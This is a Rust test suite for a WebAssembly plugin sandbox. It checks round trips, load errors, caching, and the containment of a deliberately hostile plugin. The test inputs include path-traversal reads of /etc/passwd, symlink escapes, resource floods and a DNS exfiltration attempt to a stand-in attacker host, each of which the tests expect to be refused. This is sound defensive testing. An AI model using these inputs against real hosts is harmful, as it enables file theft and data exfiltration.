//! The plugin host against real components built from `plugins/` (see `tests/artifacts`):
//! round trips of every operation, load errors, the compiled-code cache, and hostile plugins
//! that must be contained with a clear error while the host stays usable.

use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::common::{host, load, plugin_failure};
use lockgate::plugin_host::{
    CacheOutcome, CaseStatus, Grants, HostConfig, Invocation, InvokeError, Limits, LoadError,
    LogSource, MemorySink, NetworkGrant, PluginFailure, PluginHost, PluginKind, Version,
};
use lockgate_test_artifacts as artifacts;
use serde_json::json;

fn logged(sink: &MemorySink) -> Invocation {
    Invocation::default().log(Arc::new(sink.clone()))
}

fn hostile_source(attack: &str, extra: serde_json::Value) -> serde_json::Value {
    let mut source = json!({ "attack": attack });
    source
        .as_object_mut()
        .unwrap()
        .extend(extra.as_object().unwrap().clone());
    source
}

/// Runs a hostile attack through `check`.
async fn attack(
    inv: &Invocation,
    attack: &str,
    extra: serde_json::Value,
) -> Result<Vec<Version>, InvokeError> {
    load(artifacts::HOSTILE)
        .await
        .check(inv, &hostile_source(attack, extra), None)
        .await
}

/// The host still serves a normal invocation after whatever happened before.
async fn assert_host_still_usable() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("counter"), "3").unwrap();
    let counter = load(artifacts::COUNTER).await;
    let inv = Invocation::new(Grants::none().dir("state", dir.path(), false));
    let versions = counter
        .check(&inv, &json!({"path": "/dirs/state/counter"}), None)
        .await
        .unwrap();
    assert_eq!(versions, [Version::new().with("number", 3)]);
}

// ---------------------------------------------------------------- round trips

#[tokio::test]
async fn counter_describes_itself() {
    let counter = load(artifacts::COUNTER).await;
    let d = counter.description();
    assert_eq!(d.name, "counter");
    assert_eq!(d.kind, PluginKind::ResourceType);
    assert!(!d.version.is_empty());
    assert!(d.source_schema.as_ref().unwrap().is_object());
    assert_eq!(d.capabilities.dirs, ["state"]);
    assert_eq!(counter.digest().len(), 64);
}

#[tokio::test]
async fn counter_check_follows_concourse_semantics() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("counter"), "5\n").unwrap();
    let counter = load(artifacts::COUNTER).await;
    let inv = Invocation::new(Grants::none().dir("state", dir.path(), false));
    let source = json!({"path": "/dirs/state/counter"});
    let n = |k: u32| Version::new().with("number", k);

    assert_eq!(counter.check(&inv, &source, None).await.unwrap(), [n(5)]);
    assert_eq!(
        counter.check(&inv, &source, Some(&n(3))).await.unwrap(),
        [n(3), n(4), n(5)]
    );
    // `from` no longer valid: only the newest.
    assert_eq!(
        counter.check(&inv, &source, Some(&n(9))).await.unwrap(),
        [n(5)]
    );
}

#[tokio::test]
async fn counter_get_writes_into_the_granted_output() {
    let state = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    std::fs::write(state.path().join("counter"), "7").unwrap();
    let counter = load(artifacts::COUNTER).await;
    let inv = Invocation::new(
        Grants::none()
            .dir("state", state.path(), false)
            .output(out.path()),
    );
    let source = json!({"path": "/dirs/state/counter"});
    let fetched = counter
        .get(&inv, &source, &Version::new().with("number", 6), &json!({}))
        .await
        .unwrap();
    assert_eq!(fetched.version, Version::new().with("number", 6));
    assert_eq!(
        std::fs::read_to_string(out.path().join("number"))
            .unwrap()
            .trim(),
        "6"
    );

    let missing = counter
        .get(&inv, &source, &Version::new().with("number", 8), &json!({}))
        .await;
    assert!(matches!(
        plugin_failure(missing.unwrap_err()),
        PluginFailure::NotFound(_)
    ));
}

#[tokio::test]
async fn counter_put_reads_inputs_and_writes_the_granted_dir() {
    let state = tempfile::tempdir().unwrap();
    let input = tempfile::tempdir().unwrap();
    std::fs::write(input.path().join("next"), "42").unwrap();
    let counter = load(artifacts::COUNTER).await;
    let inv = Invocation::new(
        Grants::none()
            .dir("state", state.path(), true)
            .input("release", input.path()),
    );
    let source = json!({"path": "/dirs/state/counter"});

    let put = counter
        .put(&inv, &source, &json!({"from_file": "release/next"}))
        .await
        .unwrap();
    assert_eq!(put.version, Version::new().with("number", 42));
    assert_eq!(
        std::fs::read_to_string(state.path().join("counter"))
            .unwrap()
            .trim(),
        "42"
    );

    let bumped = counter.put(&inv, &source, &json!({})).await.unwrap();
    assert_eq!(bumped.version, Version::new().with("number", 43));
}

#[tokio::test]
async fn invalid_source_is_reported_as_invalid_config_naming_the_field() {
    let counter = load(artifacts::COUNTER).await;
    let err = counter
        .check(&Invocation::default(), &json!({"path": 12}), None)
        .await
        .unwrap_err();
    let msg = err.to_string();
    match plugin_failure(err) {
        PluginFailure::InvalidConfig(m) => {
            assert!(m.contains("path"), "message should name the field: {m}")
        }
        other => panic!("expected invalid config, got {other}"),
    }
    assert!(
        msg.starts_with("plugin `counter` check failed: invalid configuration"),
        "{msg}"
    );
}

#[tokio::test]
async fn assert_file_reports_passed_and_failed_cases() {
    let input = tempfile::tempdir().unwrap();
    std::fs::write(input.path().join("manifest.yml"), "release: 1.2.3\n").unwrap();
    let step = load(artifacts::ASSERT_FILE).await;
    assert_eq!(step.kind(), PluginKind::TestStep);
    let inv = Invocation::new(Grants::none().input("deployed", input.path()));
    let config = json!({
        "suite": "integration",
        "assertions": [
            {"name": "manifest exists", "file": "deployed/manifest.yml"},
            {"name": "right release", "file": "deployed/manifest.yml", "contains": "1.2.3"},
            {"name": "wrong release", "file": "deployed/manifest.yml", "contains": "9.9.9"},
            {"name": "missing file", "file": "deployed/nope"},
        ]
    });
    let report = step.run(&inv, &config).await.unwrap();
    assert_eq!(report.suites.len(), 1);
    assert_eq!(report.suites[0].name, "integration");
    let statuses: Vec<_> = report
        .cases()
        .map(|c| (c.name.as_str(), c.status))
        .collect();
    assert_eq!(
        statuses,
        [
            ("manifest exists", CaseStatus::Passed),
            ("right release", CaseStatus::Passed),
            ("wrong release", CaseStatus::Failed),
            ("missing file", CaseStatus::Failed),
        ]
    );
    assert!(!report.passed());
    assert!(
        report
            .cases()
            .nth(2)
            .unwrap()
            .message
            .as_deref()
            .unwrap()
            .contains("9.9.9")
    );
}

#[tokio::test]
async fn operations_outside_the_world_are_refused() {
    let step = load(artifacts::ASSERT_FILE).await;
    let err = step
        .check(&Invocation::default(), &json!({}), None)
        .await
        .unwrap_err();
    assert!(matches!(err, InvokeError::Unsupported { .. }), "{err}");
    let counter = load(artifacts::COUNTER).await;
    let err = counter
        .run(&Invocation::default(), &json!({}))
        .await
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("is a resource-type and has no `run`"),
        "{err}"
    );
}

// ---------------------------------------------------------------- loading

#[tokio::test]
async fn wrong_world_is_refused_naming_the_file_and_the_expected_exports() {
    let err = host()
        .load(artifacts::WRONG_WORLD)
        .await
        .err()
        .expect("must be refused");
    assert!(matches!(err, LoadError::WrongWorld { .. }), "{err}");
    let msg = err.to_string();
    assert!(msg.contains(artifacts::WRONG_WORLD), "{msg}");
    assert!(msg.contains("lockgate:plugin/resource-ops@0.1.0"), "{msg}");
    assert!(msg.contains("hello"), "should say what it exports: {msg}");
}

#[tokio::test]
async fn another_world_or_contract_version_is_refused_before_compiling() {
    let cache = tempfile::tempdir().unwrap();
    let host = PluginHost::new(HostConfig {
        cache_dir: Some(cache.path().to_path_buf()),
        ..HostConfig::default()
    })
    .unwrap();
    // The counter as if built against a later contract: its export names say `@0.9.0`.
    let bytes = std::fs::read(artifacts::COUNTER).unwrap();
    let (old, new) = (
        b"lockgate:plugin/resource-ops@0.1.0".as_slice(),
        b"lockgate:plugin/resource-ops@0.9.0".as_slice(),
    );
    let mut later = bytes.clone();
    let mut i = 0;
    while let Some(at) = later[i..].windows(old.len()).position(|w| w == old) {
        later[i + at..i + at + new.len()].copy_from_slice(new);
        i += at + new.len();
    }
    assert_ne!(later, bytes);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("counter-later.wasm");
    std::fs::write(&path, &later).unwrap();
    let err = host.load(&path).await.err().expect("must be refused");
    assert!(matches!(err, LoadError::ContractVersion { .. }), "{err}");
    assert!(
        err.to_string()
            .contains("was built against `lockgate:plugin/resource-ops@0.9.0`"),
        "{err}"
    );
    let err = host
        .load(artifacts::WRONG_WORLD)
        .await
        .err()
        .expect("must be refused");
    assert!(matches!(err, LoadError::WrongWorld { .. }), "{err}");
    assert_eq!(
        std::fs::read_dir(cache.path()).unwrap().count(),
        0,
        "nothing was compiled into the cache"
    );
}

#[tokio::test]
async fn non_wasm_core_module_truncated_and_missing_files_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let text = dir.path().join("notes.wasm");
    std::fs::write(&text, "this is not wasm").unwrap();
    let core = dir.path().join("core.wasm");
    std::fs::write(&core, b"\0asm\x01\0\0\0").unwrap();
    let truncated = dir.path().join("truncated.wasm");
    let bytes = std::fs::read(artifacts::COUNTER).unwrap();
    std::fs::write(&truncated, &bytes[..bytes.len() / 2]).unwrap();

    let err = host().load(&text).await.err().unwrap();
    assert!(
        matches!(err, LoadError::NotWasm { .. }) && err.to_string().contains("notes.wasm"),
        "{err}"
    );
    let err = host().load(&core).await.err().unwrap();
    assert!(
        matches!(err, LoadError::CoreModule { .. }) && err.to_string().contains("core.wasm"),
        "{err}"
    );
    let err = host().load(&truncated).await.err().unwrap();
    assert!(
        matches!(err, LoadError::Invalid { .. }) && err.to_string().contains("truncated.wasm"),
        "{err}"
    );
    let err = host()
        .load(dir.path().join("absent.wasm"))
        .await
        .err()
        .unwrap();
    assert!(
        matches!(err, LoadError::Read { .. }) && err.to_string().contains("absent.wasm"),
        "{err}"
    );
}

#[tokio::test]
async fn compiled_code_is_cached_and_a_corrupt_entry_is_recompiled() {
    let cache = tempfile::tempdir().unwrap();
    let config = || HostConfig {
        cache_dir: Some(cache.path().to_path_buf()),
        ..HostConfig::default()
    };
    let first = PluginHost::new(config())
        .unwrap()
        .load(artifacts::COUNTER)
        .await
        .unwrap();
    assert_eq!(first.cache_outcome(), CacheOutcome::Compiled);
    let second = PluginHost::new(config())
        .unwrap()
        .load(artifacts::COUNTER)
        .await
        .unwrap();
    assert_eq!(second.cache_outcome(), CacheOutcome::Hit);

    let entries: Vec<_> = std::fs::read_dir(cache.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(entries.len(), 1, "one entry, no temp files: {entries:?}");
    assert!(
        entries[0]
            .file_name()
            .unwrap()
            .to_str()
            .unwrap()
            .starts_with(first.digest())
    );
    std::fs::write(&entries[0], b"garbage").unwrap();
    let third = PluginHost::new(config())
        .unwrap()
        .load(artifacts::COUNTER)
        .await
        .unwrap();
    assert_eq!(third.cache_outcome(), CacheOutcome::Compiled);
    assert_eq!(third.description().name, "counter");
}

// ---------------------------------------------------------------- hostile plugins

#[tokio::test]
async fn reading_host_files_is_impossible() {
    let granted = tempfile::tempdir().unwrap();
    let inv = Invocation::new(Grants::none().dir("data", granted.path(), false));
    for path in [
        "/etc/passwd",
        "/dirs/data/../../../../etc/passwd",
        "../etc/passwd",
        "/dirs/../etc/passwd",
    ] {
        let err = attack(&inv, "read-file", json!({"path": path}))
            .await
            .unwrap_err();
        assert!(
            matches!(plugin_failure(err), PluginFailure::Failed(_)),
            "{path} must not be readable"
        );
    }
    let err = attack(&inv, "list-dir", json!({"path": "/"}))
        .await
        .unwrap_err();
    assert!(
        matches!(plugin_failure(err), PluginFailure::Failed(_)),
        "`/` must not be listable"
    );
    assert_host_still_usable().await;
}

#[tokio::test]
async fn writing_into_a_read_only_input_fails_and_leaves_it_intact() {
    let input = tempfile::tempdir().unwrap();
    std::fs::write(input.path().join("release.tgz"), "original").unwrap();
    let inv = Invocation::new(Grants::none().input("release", input.path()).dir(
        "ro",
        input.path(),
        false,
    ));
    for path in [
        "/inputs/release/release.tgz",
        "/inputs/release/new-file",
        "/dirs/ro/release.tgz",
    ] {
        let err = attack(&inv, "write-file", json!({"path": path}))
            .await
            .unwrap_err();
        assert!(
            matches!(plugin_failure(err), PluginFailure::Failed(_)),
            "{path} must be read-only"
        );
    }
    assert_eq!(
        std::fs::read_to_string(input.path().join("release.tgz")).unwrap(),
        "original"
    );
    assert!(!input.path().join("new-file").exists());
    // A read-write grant does allow writing.
    let rw = Invocation::new(Grants::none().dir("rw", input.path(), true));
    attack(&rw, "write-file", json!({"path": "/dirs/rw/new-file"}))
        .await
        .unwrap();
    assert_eq!(
        std::fs::read_to_string(input.path().join("new-file")).unwrap(),
        "pwned"
    );
}

/// The engine's notices in `sink`.
fn notices(sink: &MemorySink) -> Vec<String> {
    sink.lines()
        .into_iter()
        .filter(|l| l.source == LogSource::Engine)
        .map(|l| l.message)
        .collect()
}

#[tokio::test]
async fn fifos_and_sockets_in_a_grant_are_refused_instead_of_blocking_the_engine() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("plain"), "regular").unwrap();
    let status = std::process::Command::new("mkfifo")
        .arg(dir.path().join("fifo"))
        .status()
        .unwrap();
    assert!(status.success());
    std::os::unix::fs::symlink("fifo", dir.path().join("to-fifo")).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(dir.path().join("socket")).unwrap();
    let sink = MemorySink::new();
    let inv =
        Invocation::new(Grants::none().dir("d", dir.path(), true)).log(Arc::new(sink.clone()));
    for name in ["fifo", "to-fifo", "socket"] {
        let started = Instant::now();
        // Opened inline, a FIFO without a writer would block the runtime's thread for good.
        let err = tokio::time::timeout(
            Duration::from_secs(20),
            attack(
                &inv,
                "read-file",
                json!({"path": format!("/dirs/d/{name}")}),
            ),
        )
        .await
        .unwrap_or_else(|_| panic!("reading {name} blocked"))
        .unwrap_err();
        assert!(started.elapsed() < Duration::from_secs(5), "{name}");
        let PluginFailure::Failed(message) = plugin_failure(err) else {
            panic!("{name}: expected a failure")
        };
        assert!(message.contains("ermission denied"), "{name}: {message}");
        assert!(
            notices(&sink).contains(&format!(
                "file system: refused to open `{name}`: it is a FIFO, socket or other special file; only regular files and directories can be opened"
            )),
            "{name}: {:?}",
            notices(&sink)
        );
    }
    let versions = attack(&inv, "read-file", json!({"path": "/dirs/d/plain"}))
        .await
        .unwrap();
    assert_eq!(versions[0].get("content"), Some("regular"));
    assert_host_still_usable().await;
}

#[tokio::test]
async fn symlinks_created_in_a_grant_cannot_point_outside_it() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    let sink = MemorySink::new();
    let inv =
        Invocation::new(Grants::none().dir("w", dir.path(), true)).log(Arc::new(sink.clone()));
    for (target, why) in [
        ("/etc/passwd", "it is absolute"),
        ("../../etc/passwd", "it goes up with `..`"),
        ("sub/../../x", "it goes up with `..`"),
    ] {
        let err = attack(
            &inv,
            "symlink",
            json!({"target": target, "link": "/dirs/w/sub/l"}),
        )
        .await
        .unwrap_err();
        assert!(
            matches!(plugin_failure(err), PluginFailure::Failed(_)),
            "{target}"
        );
        assert!(
            notices(&sink).iter().any(|n| n
                == &format!("file system: refused to create the symlink `sub/l` -> `{target}`: {why}; a symlink must be a relative path without `..`")),
            "{target}: {:?}",
            notices(&sink)
        );
        assert!(std::fs::symlink_metadata(dir.path().join("sub/l")).is_err());
    }
    // Pointing down is allowed, and the host sees the link as written.
    std::fs::write(dir.path().join("sub/file"), "x").unwrap();
    attack(
        &inv,
        "symlink",
        json!({"target": "file", "link": "/dirs/w/sub/l"}),
    )
    .await
    .unwrap();
    assert_eq!(
        std::fs::read_link(dir.path().join("sub/l")).unwrap(),
        Path::new("file")
    );
}

#[tokio::test]
async fn writing_past_the_disk_limits_stops_the_invocation_naming_the_limit() {
    let dir = tempfile::tempdir().unwrap();
    let inv = Invocation::new(Grants::none().output(dir.path())).limits(Limits {
        disk_bytes: 8 << 20,
        files: 100,
        ..Limits::default()
    });
    let err = attack(
        &inv,
        "fill",
        json!({"dir": "/output", "bytes": 100u64 << 20}),
    )
    .await
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "plugin `hostile` check went past its disk limit of 8MiB written and was stopped; the plugin's type can raise it with `limits: {disk_size: …}`"
    );
    let written = std::fs::metadata(dir.path().join("fill")).unwrap().len();
    assert!(written <= 8 << 20, "{written} bytes reached the disk");

    let err = attack(&inv, "fill", json!({"dir": "/output", "files": 1000}))
        .await
        .unwrap_err();
    assert!(
        matches!(&err, InvokeError::DiskLimit { key: "files", .. }),
        "{err}"
    );
    let files = std::fs::read_dir(dir.path()).unwrap().count();
    assert!(files <= 101, "{files} files created");
    // Within the limits the same attack succeeds.
    attack(
        &inv,
        "fill",
        json!({"dir": "/output", "bytes": 1u64 << 20, "files": 10}),
    )
    .await
    .unwrap();
    assert_host_still_usable().await;
}

/// A one-shot TCP server that answers one line; returns its port.
async fn reply_server() -> (u16, tokio::task::JoinHandle<()>) {
    use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let task = tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let (r, mut w) = stream.into_split();
            let mut line = String::new();
            let _ = BufReader::new(r).read_line(&mut line).await;
            let _ = w.write_all(format!("echo {line}").as_bytes()).await;
        }
    });
    (port, task)
}

#[tokio::test]
async fn network_is_closed_unless_the_host_port_is_granted() {
    let (port, server) = reply_server().await;
    let (other_port, other) = reply_server().await;
    let addr = format!("127.0.0.1:{port}");

    let sink = MemorySink::new();
    let err = attack(&logged(&sink), "connect", json!({"addr": addr}))
        .await
        .unwrap_err();
    assert!(
        matches!(plugin_failure(err), PluginFailure::Failed(_)),
        "no grant: no network"
    );
    assert_eq!(
        notices(&sink),
        [format!(
            "network: refused to let the plugin connect to {addr}: not granted"
        )],
        "a refusal without any grant is logged too"
    );

    let grant: NetworkGrant = addr.parse().unwrap();
    let sink = MemorySink::new();
    let inv = Invocation::new(Grants::none().network(grant)).log(Arc::new(sink.clone()));
    let versions = attack(&inv, "connect", json!({"addr": addr}))
        .await
        .unwrap();
    assert_eq!(versions[0].get("connected"), Some("true"));
    assert_eq!(versions[0].get("reply").map(str::trim), Some("echo hello"));

    // The same grant does not open another port, and the refusal is logged for the operator.
    let other_addr = format!("127.0.0.1:{other_port}");
    let err = attack(&inv, "connect", json!({"addr": other_addr}))
        .await
        .unwrap_err();
    assert!(matches!(plugin_failure(err), PluginFailure::Failed(_)));
    assert!(
        sink.lines()
            .iter()
            .any(|l| l.source == LogSource::Engine && l.message.contains(&other_addr)),
        "refusal should be logged: {:?}",
        sink.lines()
    );
    server.abort();
    other.abort();
}

#[tokio::test]
async fn only_granted_names_are_resolved_and_the_rest_never_reach_dns() {
    let (port, server) = reply_server().await;
    // No grant: a name made of data is refused before any lookup, and the refusal is logged.
    let sink = MemorySink::new();
    let err = attack(
        &logged(&sink),
        "connect",
        json!({"addr": "c2VjcmV0.attacker.example:80"}),
    )
    .await
    .unwrap_err();
    assert!(matches!(plugin_failure(err), PluginFailure::Failed(_)));
    assert_eq!(
        notices(&sink),
        ["network: refused to resolve `c2VjcmV0.attacker.example`: no network grant names it"]
    );
    // A grant by name lets that name resolve (and only that one).
    let grant: NetworkGrant = format!("localhost:{port}").parse().unwrap();
    let sink = MemorySink::new();
    let inv = Invocation::new(Grants::none().network(grant)).log(Arc::new(sink.clone()));
    let versions = attack(
        &inv,
        "connect",
        json!({"addr": format!("localhost:{port}")}),
    )
    .await
    .unwrap();
    assert_eq!(versions[0].get("connected"), Some("true"));
    let err = attack(
        &inv,
        "connect",
        json!({"addr": format!("example.org:{port}")}),
    )
    .await
    .unwrap_err();
    assert!(matches!(plugin_failure(err), PluginFailure::Failed(_)));
    assert!(
        notices(&sink)
            .iter()
            .any(|n| n.contains("refused to resolve `example.org`")),
        "{:?}",
        notices(&sink)
    );
    server.abort();
}

#[tokio::test]
async fn only_granted_environment_variables_are_visible() {
    // The host process has PATH, HOME and more; the plugin must see only the granted one.
    let inv = Invocation::new(Grants::none().env("DEPLOY_ENV", "staging"));
    let versions = attack(&inv, "env", json!({})).await.unwrap();
    assert_eq!(versions[0], Version::new().with("DEPLOY_ENV", "staging"));
}

#[tokio::test]
async fn an_infinite_loop_is_stopped_at_its_deadline() {
    let limits = Limits::default().with_deadline(Duration::from_millis(500));
    let inv = Invocation::default().limits(limits);
    let started = Instant::now();
    let err = attack(&inv, "loop", json!({})).await.unwrap_err();
    let elapsed = started.elapsed();
    assert!(matches!(err, InvokeError::Deadline { .. }), "{err}");
    assert!(
        err.to_string()
            .contains("exceeded its 500 ms check deadline"),
        "{err}"
    );
    assert!(
        elapsed < Duration::from_secs(5),
        "stopped after {elapsed:?}"
    );
    assert_host_still_usable().await;
}

#[tokio::test]
async fn a_plugin_blocked_in_a_host_call_is_stopped_at_its_deadline() {
    let limits = Limits::default().with_deadline(Duration::from_millis(300));
    let err = attack(
        &Invocation::default().limits(limits),
        "sleep",
        json!({"ms": 60_000}),
    )
    .await
    .unwrap_err();
    assert!(matches!(err, InvokeError::Deadline { .. }), "{err}");
    assert_host_still_usable().await;
}

#[tokio::test]
async fn allocating_a_gibibyte_hits_the_memory_limit() {
    let err = attack(
        &Invocation::default(),
        "alloc",
        json!({"bytes": 1u64 << 30}),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(err, InvokeError::MemoryLimit { limit, .. } if limit == 256 << 20),
        "{err}"
    );
    assert!(err.to_string().contains("memory limit of 256 MiB"), "{err}");
    // Within the limit it works.
    attack(
        &Invocation::default(),
        "alloc",
        json!({"bytes": 16u64 << 20}),
    )
    .await
    .unwrap();
    assert_host_still_usable().await;
}

#[tokio::test]
async fn unbounded_recursion_is_a_stack_overflow() {
    let err = attack(&Invocation::default(), "recurse", json!({}))
        .await
        .unwrap_err();
    assert!(matches!(err, InvokeError::StackOverflow { .. }), "{err}");
    assert_host_still_usable().await;
}

#[tokio::test]
async fn a_guest_panic_is_reported_with_its_message() {
    let err = attack(&Invocation::default(), "panic", json!({}))
        .await
        .unwrap_err();
    match &err {
        InvokeError::Panicked { message, .. } => {
            assert!(
                message.contains("hostile plugin panicked on purpose"),
                "{message}"
            )
        }
        other => panic!("expected a panic, got {other}"),
    }
    assert_host_still_usable().await;
}

#[tokio::test]
async fn a_hundred_megabytes_of_stdout_are_capped() {
    let sink = MemorySink::new();
    let inv = logged(&sink).limits(Limits {
        output_bytes: 1 << 20,
        ..Limits::default()
    });
    let versions = attack(&inv, "stdout-flood", json!({"bytes": 100u64 << 20}))
        .await
        .unwrap();
    assert_eq!(versions[0].get("done"), Some("true"));
    let lines = sink.lines();
    let plugin_bytes: usize = lines
        .iter()
        .filter(|l| l.source == LogSource::Stdout)
        .map(|l| l.message.len() + 1)
        .sum();
    assert!(
        plugin_bytes <= 1 << 20,
        "{plugin_bytes} bytes passed the 1 MiB cap"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.source == LogSource::Engine && l.message.contains("dropped"))
    );
}

/// A sink that is full (behind) until `open` is set: the plugin's output must wait for it.
struct SlowSink {
    open: std::sync::atomic::AtomicBool,
    room: tokio::sync::Notify,
    lines: std::sync::atomic::AtomicUsize,
}

impl lockgate::plugin_host::LogSink for SlowSink {
    fn line(&self, _line: lockgate::plugin_host::LogLine) {
        self.lines
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    }

    fn is_full(&self) -> bool {
        !self.open.load(std::sync::atomic::Ordering::Acquire)
    }

    fn ready(&self) -> std::pin::Pin<Box<dyn std::future::Future<Output = ()> + Send + '_>> {
        Box::pin(async move {
            loop {
                let room = self.room.notified();
                if !self.is_full() {
                    return;
                }
                room.await;
            }
        })
    }
}

#[tokio::test]
async fn a_sink_that_is_behind_holds_the_plugins_output_without_failing_it() {
    for flood in ["stdout-flood", "log-flood"] {
        let sink = Arc::new(SlowSink {
            open: false.into(),
            room: tokio::sync::Notify::new(),
            lines: 0.into(),
        });
        let release = tokio::spawn({
            let sink = sink.clone();
            async move {
                tokio::time::sleep(Duration::from_millis(400)).await;
                sink.open.store(true, std::sync::atomic::Ordering::Release);
                sink.room.notify_waiters();
            }
        });
        let started = Instant::now();
        let inv = Invocation::default().log(sink.clone());
        let versions = attack(&inv, flood, json!({"bytes": 2u64 << 20}))
            .await
            .unwrap_or_else(|e| panic!("{flood}: {e}"));
        assert_eq!(versions[0].get("done"), Some("true"));
        assert!(
            started.elapsed() >= Duration::from_millis(350),
            "{flood} did not wait for the sink ({:?})",
            started.elapsed()
        );
        assert!(sink.lines.load(std::sync::atomic::Ordering::Relaxed) > 0);
        release.await.unwrap();
    }
}

#[tokio::test]
async fn log_import_floods_are_capped_too() {
    let sink = MemorySink::new();
    let inv = logged(&sink).limits(Limits {
        output_bytes: 64 << 10,
        ..Limits::default()
    });
    attack(&inv, "log-flood", json!({"bytes": 10u64 << 20}))
        .await
        .unwrap();
    let plugin_bytes: usize = sink
        .lines()
        .iter()
        .filter(|l| matches!(l.source, LogSource::Plugin(_)))
        .map(|l| l.message.len() + 1)
        .sum();
    assert!(plugin_bytes <= 64 << 10, "{plugin_bytes}");
}

#[tokio::test]
async fn a_check_returning_too_many_versions_keeps_the_newest_and_says_so() {
    let sink = MemorySink::new();
    let inv = logged(&sink).limits(Limits {
        versions_per_check: 1000,
        ..Limits::default()
    });
    let versions = attack(&inv, "many", json!({"versions": 25_000}))
        .await
        .unwrap();
    assert_eq!(versions.len(), 1000);
    assert_eq!(versions[0].get("n"), Some("24000"), "the newest are kept");
    assert_eq!(versions[999].get("n"), Some("24999"));
    let warned = sink
        .lines()
        .into_iter()
        .find(|l| l.source == LogSource::Engine)
        .expect("a notice");
    assert_eq!(
        warned.message,
        "check returned 25000 versions, more than the limit of 1000: the newest 1000 are kept, the 24000 oldest dropped (the plugin's type can raise it with `limits: {versions_per_check: …}`)"
    );
}

#[tokio::test]
async fn oversized_versions_and_messages_are_refused_or_cut_naming_the_limit() {
    let inv = Invocation::default();
    let err = attack(&inv, "many", json!({"versions": 1, "fields": 100}))
        .await
        .unwrap_err();
    assert_eq!(
        err.to_string(),
        "plugin `hostile` check returned an invalid result: a version has 101 fields, more than the limit of 64; the plugin's type can raise it with `limits: {version_fields: …}` (README, \"The sandbox\")"
    );
    let err = attack(
        &inv,
        "many",
        json!({"versions": 1, "fields": 1, "bytes": 1 << 20}),
    )
    .await
    .unwrap_err();
    assert!(
        err.to_string()
            .contains("field `f0` of a version has 1048578 bytes, more than the limit of 16384"),
        "{err}"
    );
    let long = "e".repeat(100_000);
    let err = attack(&inv, "echo", json!({"text": long, "fail": true}))
        .await
        .unwrap_err();
    let text = err.to_string();
    assert!(text.len() < 17_000, "{} bytes", text.len());
    assert!(
        text.ends_with("… (83634 more bytes cut)"),
        "{}",
        &text[text.len() - 60..]
    );
    assert_host_still_usable().await;
}

#[tokio::test]
async fn stderr_is_streamed_into_the_log() {
    let sink = MemorySink::new();
    attack(&logged(&sink), "stderr", json!({"message": "warming up"}))
        .await
        .unwrap();
    assert!(
        sink.lines()
            .iter()
            .any(|l| l.source == LogSource::Stderr && l.message == "warming up")
    );
}

#[tokio::test]
async fn bad_grants_are_refused_before_the_plugin_runs() {
    let missing = Path::new("/definitely/not/here");
    let inv = Invocation::new(Grants::none().input("release", missing));
    let err = attack(&inv, "env", json!({})).await.unwrap_err();
    assert!(matches!(err, InvokeError::Grant { .. }), "{err}");
    assert!(err.to_string().contains("/definitely/not/here"), "{err}");
    let inv = Invocation::new(Grants::none().input("../x", std::env::temp_dir()));
    let err = attack(&inv, "env", json!({})).await.unwrap_err();
    assert!(
        err.to_string().contains("invalid input name `../x`"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn many_invocations_run_concurrently_each_in_its_own_sandbox() {
    let counter = load(artifacts::COUNTER).await;
    let mut tasks = Vec::new();
    for i in 0..32u32 {
        let counter = counter.clone();
        tasks.push(tokio::spawn(async move {
            let dir = tempfile::tempdir().unwrap();
            std::fs::write(dir.path().join("counter"), i.to_string()).unwrap();
            let inv = Invocation::new(Grants::none().dir("state", dir.path(), false));
            counter
                .check(&inv, &json!({"path": "/dirs/state/counter"}), None)
                .await
                .unwrap()
        }));
    }
    for (i, t) in tasks.into_iter().enumerate() {
        let versions = t.await.unwrap();
        let expected: Vec<Version> = if i == 0 {
            vec![]
        } else {
            vec![Version::new().with("number", i)]
        };
        assert_eq!(versions, expected);
    }
}
